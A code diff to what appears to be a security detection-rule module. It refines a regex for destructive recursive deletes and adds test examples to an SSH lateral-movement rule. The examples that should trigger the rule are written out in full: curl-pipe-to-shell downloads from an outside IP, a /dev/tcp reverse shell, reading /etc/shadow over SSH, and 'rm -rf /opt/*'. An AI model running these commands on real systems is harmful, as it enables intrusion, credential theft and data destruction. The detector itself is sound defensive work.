@@ -109,11 +109,15 @@ export function splitScript(text: string, depth = 0, out: Cmd[] = []): Cmd[] {
 const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'python', 'python3', 'perl', 'ruby', 'node', 'php', 'iex', 'pwsh', 'powershell']);
 const NOT_READERS = new Set(['echo', 'printf', 'ls', 'stat', 'test', '[', 'chmod', 'chown', 'touch', 'mkdir', 'ssh-keygen', 'which', 'man']);
 
-/** What makes a remote command an attack rather than administration; the first match names it. */
-/** System, data and home trees whose recursive removal on every host is an outage, not a cleanup. */
-const WIPE_TARGET = /^\/(?:\*?$|etc|home|root|srv|opt|boot|usr|data|var\/(?:lib|www|backups|log))(?:\/|$)/;
+/**
+ * System, data and home trees whose recursive removal on every host is an outage, not a cleanup: a tree
+ * or one entry of it (`/var/lib/mysql`, `/home/*`). Deeper paths are an application's own files, such as
+ * the old releases a deploy prunes (`rm -rf /opt/app/releases/20240101`).
+ */
+const WIPE_TARGET = /^\/(?:\*?|(?:etc|home|root|srv|opt|boot|usr|data|var\/(?:lib|www|backups|log))(?:\/[^/]*)?\/?)$/;
 const WIPERS = (c: Cmd) => c.name === 'shred' || (c.name === 'rm' && c.argv.some((a) => a === '--recursive' || /^-[a-zA-Z]*[rR]/.test(a)));
 
+/** What makes a remote command an attack rather than administration; the first match names it. */
 function payloadOf(cmds: readonly Cmd[]): string | undefined {
   // a PowerShell script (`--command-id RunPowerShellScript`) parses as several shell commands: read it whole
   const script = cmds.slice(0, 64).map((c) => c.argv.join(' ')).join(' ').slice(0, 8192);
@@ -341,7 +345,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
     message: 'Runs a download-and-execute, reverse shell, credential read or implant on another host over SSH', why: 'Using SSH access to fetch and run code, read secrets or plant keys on a second machine is how an intrusion spreads.',
     check: remotePayload(SSH_LIKE),
-    examples: { fire: ["ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'"] },
+    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'"] },
   },
   {
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
